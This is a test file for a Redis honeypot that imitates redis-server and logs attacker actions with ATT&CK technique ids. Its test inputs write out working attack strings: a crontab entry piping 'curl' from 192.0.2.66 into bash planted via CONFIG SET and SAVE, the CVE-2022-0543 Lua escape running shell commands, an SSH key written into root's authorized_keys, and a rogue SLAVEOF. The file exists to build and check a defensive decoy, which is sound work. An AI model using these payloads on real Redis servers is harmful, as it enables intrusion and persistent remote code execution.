import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { joinService, type PlayedClient, type PlayedService, playService, toldOf } from '../service/session.fixture.ts';
import { encodeRequest, maskAnswer, probeBytes } from './redis-client.fixture.ts';
import { PROBES } from './redis-probes.fixture.ts';
import { redisDecoy } from './redis.decoy.ts';

function play(config: unknown = {}): PlayedService {
  const played = playService(redisDecoy, config);
  onTestFinished(() => played.close());
  return played;
}

async function ask(client: PlayedClient, ...words: readonly string[]): Promise<string> {
  client.take();
  await client.send(encodeRequest(words));
  return client.take();
}

const infoOf = (text: string): Map<string, string> =>
  new Map([...text.matchAll(/^(\w+):(.*)\r$/gm)].map(([, name, value]) => [name!, value!]));

describe('the Redis decoy', () => {
  it('answers as the real redis-server did', async () => {
    const answers = JSON.parse(readFileSync(join(import.meta.dirname, 'redis-answers.json'), 'utf8')) as string[];
    const played = play();
    const different: unknown[] = [];
    for (const [i, probe] of PROBES.entries()) {
      const client = played.connect();
      await client.send(probeBytes(probe));
      await client.settle(400);
      const got = maskAnswer(probe, client.text + (client.closed ? '<closed>' : ''));
      if (got !== answers[i]) different.push({ send: probe.send, got, wanted: answers[i] });
      await client.destroy();
    }
    expect(different).toEqual([]);
    expect(played.failures).toEqual([]);
  });

  it('has keys of its persona, the same for a returning attacker, and others’ changes are not theirs', async () => {
    const played = play();
    const first = played.connect();
    const before = Number((await ask(first, 'DBSIZE')).slice(1));
    expect(before).toBeGreaterThan(20);
    expect(await ask(first, 'FLUSHALL')).toBe('+OK\r\n');
    await ask(first, 'SET', 'backup1', 'x');
    await first.end();
    expect(await ask(played.connect(), 'DBSIZE')).toBe(':1\r\n');
    expect(await ask(played.connect({ ip: '203.0.113.200' }), 'DBSIZE')).toBe(`:${before}\r\n`);
  });

  it('grows older in INFO, and keeps its run_id', async () => {
    const played = play();
    const client = played.connect();
    const earlier = infoOf(await ask(client, 'INFO'));
    played.clock.advance(100_000);
    const later = infoOf(await ask(client, 'INFO'));
    expect(Number(later.get('uptime_in_seconds'))).toBe(Number(earlier.get('uptime_in_seconds')) + 100);
    expect(later.get('run_id')).toBe(earlier.get('run_id'));
    expect(Number(later.get('total_commands_processed'))).toBeGreaterThan(
      Number(earlier.get('total_commands_processed')),
    );
    expect(later.get('redis_version')).toBe('7.0.15');
    expect(later.get('db0')).toMatch(/^keys=\d+,expires=\d+,avg_ttl=\d+$/);
  });

  it('plants the crontab that an attacker wrote, where their machine has it, and tells of it with ATT&CK', async () => {
    const played = play();
    const client = played.connect();
    await ask(client, 'FLUSHALL');
    await ask(client, 'SET', 'x', '\n\n*/2 * * * * root curl -s http://192.0.2.66/i.sh | bash\n\n');
    expect(await ask(client, 'CONFIG', 'SET', 'dir', '/etc/cron.d', 'dbfilename', 'zzh')).toBe('+OK\r\n');
    expect(await ask(client, 'CONFIG', 'GET', 'dir')).toBe('*2\r\n$3\r\ndir\r\n$11\r\n/etc/cron.d\r\n');
    expect(await ask(client, 'SAVE')).toBe('+OK\r\n');
    const file = played.events.find(({ event }) => event.action === 'redis-file');
    expect(file).toMatchObject({
      file: { path: '/etc/cron.d/zzh' },
      threat: { tactic: { id: ['TA0003'] }, technique: { id: ['T1053.003'] } },
    });
    const kept = [...played.blobs.values()].map((bytes) => Buffer.from(bytes).toString('latin1'));
    expect(kept.some((text) => text.startsWith('REDIS0010') && text.includes('curl -s http://192.0.2.66/i.sh'))).toBe(
      true,
    );
    const set = played.events.find(({ netsentinel }) => netsentinel?.statement?.startsWith('SET x') === true);
    expect(set?.threat?.technique?.id).toEqual(['T1190', 'T1053.003']);
  });

  it('writes nothing where the server may not: protected settings, the redis user', async () => {
    const shut = play({ protectedConfigs: 'no' }).connect();
    expect(await ask(shut, 'CONFIG', 'SET', 'dir', '/tmp')).toContain("can't set protected config");
    const modest = play({ runsAs: 'redis' }).connect();
    expect(await ask(modest, 'CONFIG', 'SET', 'dir', '/root/.ssh')).toContain('Permission denied');
  });

  it('is a slave without a link after SLAVEOF, and connects to nobody', async () => {
    const played = play();
    const client = played.connect();
    expect(await ask(client, 'SLAVEOF', '192.0.2.66', '6379')).toBe('+OK\r\n');
    played.clock.advance(7000);
    const fields = infoOf(await ask(client, 'INFO', 'replication'));
    expect(fields.get('role')).toBe('slave');
    expect(fields.get('master_link_status')).toBe('down');
    expect(fields.get('master_link_down_since_seconds')).toBe('7');
    expect(await ask(client, 'SET', 'a', '1')).toContain('-READONLY');
    expect(played.events.find(({ event }) => event.action === 'redis-forward')).toMatchObject({
      netsentinel: { forward: { host: '192.0.2.66', port: 6379 } },
    });
    expect(await ask(client, 'SLAVEOF', 'NO', 'ONE')).toBe('+OK\r\n');
    expect(await ask(client, 'ROLE')).toContain('master');
  });

  it('loads no module, and tells which', async () => {
    const played = play();
    const answer = await ask(played.connect(), 'MODULE', 'LOAD', '/tmp/exp.so');
    expect(answer).toBe('-ERR Error loading the extension. Please check the server logs.\r\n');
    expect(played.events.find(({ event }) => event.action === 'redis-execute')).toMatchObject({
      process: { executable: '/tmp/exp.so' },
    });
  });

  const ESCAPE =
    'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res';

  it('answers the way out of Lua (CVE-2022-0543) with the machine’s shell, and tells what ran', async () => {
    const played = play();
    const client = played.connect();
    client.take();
    await client.send(encodeRequest(['EVAL', ESCAPE, '0']));
    await client.settle(2000);
    expect(client.take()).toContain('uid=0(root)');
    expect(played.events.some(({ process }) => process?.command_line === 'id')).toBe(true);
    expect(await ask(client, 'PING')).toBe('+PONG\r\n');
    const closed = play({ luaEscape: false }).connect();
    expect(await ask(closed, 'EVAL', ESCAPE, '0')).toContain("nonexistent global variable 'package'");
  });

  const readBack = (command: string): string =>
    `local io_l = package.loadlib("liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("${command}", "r"); local res = f:read("*a"); return res`;

  it('shows the machine’s shell what was planted through CONFIG SET and SAVE: crontab and key', async () => {
    const client = play().connect();
    const shell = async (command: string): Promise<string> => {
      client.take();
      await client.send(encodeRequest(['EVAL', readBack(command), '0']));
      await client.settle(3000);
      return client.take();
    };
    await ask(client, 'FLUSHALL');
    await ask(client, 'SET', 'a', '\n\n* * * * * /tmp/.x\n\n');
    await ask(client, 'CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs', 'dbfilename', 'root', 'rdbcompression', 'no');
    expect(await ask(client, 'BGSAVE')).toBe('+Background saving started\r\n');
    expect(await shell('crontab -l')).toContain('\n* * * * * /tmp/.x\n');
    await ask(client, 'SET', 'a', '\n\nssh-rsa AAAAB3NzaC1yc2E me@kali\n\n');
    await ask(client, 'CONFIG', 'SET', 'dir', '/root/.ssh', 'dbfilename', 'authorized_keys');
    expect(await ask(client, 'SAVE')).toBe('+OK\r\n');
    expect(await shell('cat /root/.ssh/authorized_keys')).toContain('\nssh-rsa AAAAB3NzaC1yc2E me@kali\n');
  });

  it('goes down with SHUTDOWN and is up again soon, as systemd does it', async () => {
    const played = play();
    const client = played.connect();
    await ask(client, 'SET', 'gone', '1');
    await ask(client, 'SHUTDOWN', 'NOSAVE');
    expect(client.closed).toBe(true);
    const early = played.connect();
    await early.settle();
    expect(early.closed).toBe(true);
    played.clock.advance(1000);
    const late = infoOf(await ask(played.connect(), 'INFO', 'server'));
    expect(late.get('uptime_in_seconds')).toBe('0');
  });

  it('lets in with the password, with what the policy lets in, and with no other', async () => {
    const played = play({ password: 'hunter2', credentials: { anyAfterTries: false, weakPairs: false } });
    const client = played.connect();
    expect(await ask(client, 'GET', 'a')).toBe('-NOAUTH Authentication required.\r\n');
    expect(await ask(client, 'AUTH', 'guess')).toContain('-WRONGPASS');
    expect(await ask(client, 'AUTH', 'hunter2')).toBe('+OK\r\n');
    expect(await ask(client, 'PING')).toBe('+PONG\r\n');
    expect(toldOf(played.events)).toContain('redis-login success');
    const eager = play({ password: 'hunter2', credentials: { anyAfterTries: 2 } }).connect();
    expect(await ask(eager, 'AUTH', 'one')).toContain('-WRONGPASS');
    expect(await ask(eager, 'AUTH', 'two')).toBe('+OK\r\n');
  });

  it('turns strangers away in protected mode', async () => {
    const client = play({ protectedMode: true }).connect();
    await client.settle();
    expect(client.text).toMatch(/^-DENIED Redis is running in protected mode/);
    expect(client.closed).toBe(true);
  });

  it('shows one connection what another of the same attacker does: MONITOR, PUBLISH, BLPOP, CLIENT LIST', async () => {
    const played = play();
    const watcher = played.connect({ port: 1111 });
    const other = played.connect({ port: 2222 });
    expect(await ask(watcher, 'MONITOR')).toBe('+OK\r\n');
    await ask(other, 'SET', 'a', 'b"c');
    expect(watcher.take()).toMatch(/^\+\d+\.\d{6} \[0 198\.51\.100\.7:2222\] "SET" "a" "b\\"c"\r\n$/);
    await watcher.settle(120_000);
    // The persona's own applications are at work too.
    expect(watcher.take()).toMatch(/ \[0 127\.0\.0\.1:\d+\] "\w+" "\w+:/);
    const reader = played.connect({ port: 3333 });
    await ask(reader, 'SUBSCRIBE', 'news');
    expect(await ask(other, 'PUBLISH', 'news', 'hi')).toBe(':1\r\n');
    expect(reader.take()).toContain('message');
    const waiter = played.connect({ port: 4444 });
    expect(await ask(waiter, 'BLPOP', 'jobs', '0')).toBe('');
    await ask(other, 'RPUSH', 'jobs', 'one');
    expect(waiter.take()).toBe('*2\r\n$4\r\njobs\r\n$3\r\none\r\n');
    expect(await ask(other, 'CLIENT', 'LIST')).toContain('addr=198.51.100.7:4444');
    expect(await ask(other, 'CLIENT', 'KILL', 'TYPE', 'pubsub')).toBe(':1\r\n');
    expect(reader.closed).toBe(true);
  });

  it('gives dumps that RESTORE takes back, of each type', async () => {
    const client = play().connect();
    await ask(client, 'FLUSHALL');
    await ask(client, 'SET', 's', 'abcabcabcabcabcabcabcabcabcabcabcabc');
    await ask(client, 'RPUSH', 'l', ...Array.from({ length: 600 }, (_, i) => `item ${i} ${'x'.repeat(i % 90)}`));
    await ask(client, 'HSET', 'h', 'a', 'x'.repeat(100), 'b', '2');
    await ask(client, 'SADD', 't', 'one', 'two');
    await ask(client, 'ZADD', 'z', '1.5', 'x'.repeat(70), '2', 'b');
    for (const key of ['s', 'l', 'h', 't', 'z']) {
      const dump = await ask(client, 'DUMP', key);
      const payload = dump.slice(dump.indexOf('\r\n') + 2, -2);
      expect(await ask(client, 'RESTORE', `${key}2`, '0', payload)).toBe('+OK\r\n');
      expect(await ask(client, 'DUMP', `${key}2`)).toBe(dump);
    }
  });

  it('keeps within its bounds', async () => {
    const client = play({ maxStoreBytes: 100_000 }).connect();
    expect(await ask(client, 'SET', 'big', 'x'.repeat(200_000))).toContain('-OOM');
    expect(await ask(client, 'SETRANGE', 'a', '500000000', 'x')).toContain('-OOM');
    for (let i = 0; i < 40; i++) await ask(client, 'SET', 'same', 'y'.repeat(50_000));
    expect(await ask(client, 'STRLEN', 'same')).toBe(':50000\r\n');
    await client.send(`*2\r\n$4\r\nECHO\r\n$100000000\r\n`);
    expect(client.closed).toBe(true);
  });

  it('is the same machine over another decoy of the persona', async () => {
    const played = play();
    const other = joinService(played, redisDecoy);
    const [first, second] = [played.connect(), other.connect()];
    expect(infoOf(await ask(first, 'INFO', 'server')).get('run_id')).toBe(
      infoOf(await ask(second, 'INFO', 'server')).get('run_id'),
    );
  });
});
